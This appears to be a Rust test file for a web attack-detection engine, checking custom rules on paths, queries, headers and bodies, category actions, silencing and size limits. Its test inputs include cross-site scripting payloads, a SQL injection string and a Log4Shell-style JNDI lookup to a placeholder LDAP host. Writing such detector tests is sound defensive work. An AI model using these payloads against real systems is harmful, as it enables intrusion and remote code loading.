use std::collections::HashMap;

use regex_lite::Regex;

use super::{
    findings::{QUERY_BYTES, VALUE_BYTES},
    *,
};
use crate::detect::{HeaderLookup, custom::Place};

struct Headers(HashMap<&'static str, Vec<&'static [u8]>>);

impl HeaderLookup for Headers {
    fn first(&self, name: &str) -> Option<&[u8]> {
        self.0.get(name)?.first().copied()
    }

    fn each(&self, name: &str, visit: &mut dyn FnMut(&[u8])) {
        for value in self.0.get(name).into_iter().flatten() {
            visit(value);
        }
    }

    fn each_named<'a>(&'a self, name: &HeaderName, visit: &mut dyn FnMut(&'a [u8])) {
        for value in self.0.get(name.as_str()).into_iter().flatten() {
            visit(value);
        }
    }
}

struct NoRoutes;

impl Application for NoRoutes {
    fn routes_literally(&self, _: &probe::Match) -> bool {
        false
    }
}

/// Finds `bad` in every place, one rule for each.
fn detection() -> Detection {
    let rule = |id: &str, category, place| CustomRule {
        id: id.to_owned(),
        category,
        place,
        pattern: Regex::new("bad").unwrap(),
    };
    Detection {
        rules: vec![
            rule("own.path", Category::Probe, Place::Path),
            rule("own.query", Category::Sqli, Place::Query),
            rule(
                "own.header",
                Category::Xss,
                Place::Header("x-own".to_owned()),
            ),
            rule("own.body", Category::Command, Place::Body),
        ],
        ..Detection::default()
    }
}

type Found = Vec<(String, Action)>;

fn found(
    detection: &Detection,
    path: &str,
    query: &str,
    headers: &[(&'static str, &'static str)],
) -> Found {
    let mut map: HashMap<_, Vec<_>> = HashMap::new();
    for (name, value) in headers {
        map.entry(*name).or_default().push(value.as_bytes());
    }
    let headers = Headers(map);
    let mut found = Vec::new();
    let facts = RequestFacts::new("GET", path, query, &headers);
    detection.inspect(&facts, &NoRoutes, &mut |finding, action| {
        found.push((finding.rule.into_owned(), action));
        false
    });
    found
}

fn rules(found: &Found) -> Vec<&str> {
    found.iter().map(|(rule, _)| rule.as_str()).collect()
}

#[test]
fn each_place_is_looked_at() {
    let detection = detection();
    for (path, query, headers, expected) in [
        ("/x/bad", "", &[][..], &["own.path"][..]),
        ("/", "q=bad", &[], &["own.query"]),
        ("/", "a=1&b=+bad+", &[], &["own.query"]),
        (
            "/",
            "",
            &[("x-own", "ok"), ("x-own", "bad")],
            &["own.header"],
        ),
        ("/", "", &[("x-other", "bad")], &[]),
        ("/good", "bad=1", &[], &[]),
    ] {
        assert_eq!(
            rules(&found(&detection, path, query, headers)),
            expected,
            "{path} {query}"
        );
    }
}

#[test]
fn of_a_category_that_is_off_and_of_a_silenced_rule_nothing_is_found() {
    let mut detection = detection();
    detection.set_action(Category::Probe, Action::Off);
    detection.silenced.insert("own.query".to_owned());
    let headers = [("x-own", "bad")];
    assert_eq!(
        rules(&found(&detection, "/bad", "q=bad", &headers)),
        ["own.header"]
    );
}

#[test]
fn the_action_is_that_of_the_category_and_milder_for_what_another_site_sent() {
    let mut detection = detection();
    detection.set_action(Category::Probe, Action::Log);
    let all = |site| {
        let headers = [("x-own", "bad"), ("sec-fetch-site", site)];
        found(&detection, "/bad", "q=bad", &headers)
    };
    let actions =
        |found: Found| -> Vec<_> { found.into_iter().map(|(_, action)| action).collect() };
    use Action::{Log, Refuse, Strike};
    assert_eq!(actions(all("cross-site")), [Log, Refuse, Refuse]);
    for site in ["same-origin", "same-site", "none", "CROSS-SITE"] {
        assert_eq!(actions(all(site)), [Log, Strike, Strike], "{site}");
    }
}

#[test]
fn own_rules_look_at_the_root_too_and_at_all_of_a_long_body() {
    let mut detection = detection();
    for rule in &mut detection.rules {
        rule.pattern = Regex::new("^/$|bad").unwrap();
    }
    assert_eq!(rules(&found(&detection, "/", "", &[])), ["own.path"]);
    let mut heard = Vec::new();
    let body = format!("{}bad", "a".repeat(2 * VALUE_BYTES));
    detection.inspect_body(BodyKind::Text, body.as_bytes(), &mut |finding, _| {
        heard.push(finding.rule.into_owned());
        false
    });
    assert_eq!(heard, ["own.body"]);
}

#[test]
fn the_first_finding_may_be_all() {
    let headers = Headers(HashMap::new());
    let facts = RequestFacts::new("GET", "/bad/bad", "q=bad", &headers);
    let mut heard = 0;
    detection().inspect(&facts, &NoRoutes, &mut |_, _| {
        heard += 1;
        true
    });
    assert_eq!(heard, 1);
}

#[test]
fn bodies_have_an_action_of_their_own() {
    let mut detection = detection();
    let body = |detection: &Detection, text: &str| {
        let mut found = Vec::new();
        detection.inspect_body(BodyKind::Json, text.as_bytes(), &mut |finding, action| {
            found.push((finding.rule.into_owned(), finding.surface, action));
            false
        });
        found
    };
    let text = r#"{"a": ["x", "b\u0061d"]}"#;
    let expected = |action| [("own.body".to_owned(), "body".to_owned(), action)];
    assert_eq!(body(&detection, text), expected(Action::Refuse));
    detection.body = Action::Strike;
    assert_eq!(body(&detection, text), expected(Action::Strike));
    detection.set_action(Category::Command, Action::Log);
    assert_eq!(body(&detection, text), expected(Action::Log));
    assert_eq!(body(&detection, "{\"a\": 1}"), []);
}

#[test]
fn the_size_of_what_is_looked_at_is_bounded() {
    let detection = detection();
    let long = "a".repeat(VALUE_BYTES);
    assert_eq!(found(&detection, "/", &format!("q={long}bad"), &[]), []);
    let many = "a=b&".repeat(QUERY_BYTES / 4);
    assert_eq!(found(&detection, "/", &format!("{many}q=bad"), &[]), []);
    let last = "a=b&".repeat(QUERY_BYTES / 4 - 2);
    assert_eq!(
        rules(&found(&detection, "/", &format!("{last}q=bad"), &[])),
        ["own.query"]
    );
}

#[test]
fn what_is_harmless_in_a_header_is_looked_at_anew_in_a_query_where_a_plus_is_a_space() {
    let detection = Detection::default();
    let text = "<img+src=x+onerror=alert(1)>";
    for _ in 0..3 {
        assert_eq!(found(&detection, "/", "", &[("referer", text)]), []);
        let in_query = found(&detection, "/", &format!("q={text}"), &[]);
        assert_eq!(in_query.len(), 1, "{in_query:?}");
    }
}

#[test]
fn a_query_that_is_known_to_be_harmless_is_so_for_the_detectors_that_looked_at_it() {
    let mut detection = Detection::default();
    detection.set_action(Category::Xss, Action::Off);
    let query = "q=<b onclick=alert(2)>";
    assert_eq!(found(&detection, "/", query, &[]), []);
    assert_eq!(found(&Detection::default(), "/", query, &[]).len(), 1);
    // Only a part of it is.
    assert_eq!(found(&detection, "/", "q=' or 1=1--", &[]).len(), 1);
    assert_eq!(
        found(&detection, "/", "q=garden (wood)&p=' or 1=1--", &[]).len(),
        1
    );
    assert_eq!(
        found(&detection, "/", "q=garden (wood)&p=' or 1=1--", &[]).len(),
        1
    );
}

#[test]
fn every_user_agent_line_is_looked_at_also_when_the_first_is_known_to_be_harmless() {
    let detection = Detection::default();
    let harmless = ("user-agent", "Mozilla/5.0 (of this very test; x=1)");
    let attack = ("user-agent", "${jndi:ldap://192.0.2.1/a}");
    for _ in 0..2 {
        assert_eq!(found(&detection, "/", "", &[harmless]), []);
        let both = found(&detection, "/", "", &[harmless, attack]);
        assert_eq!(rules(&both), ["command.jndi"]);
    }
}
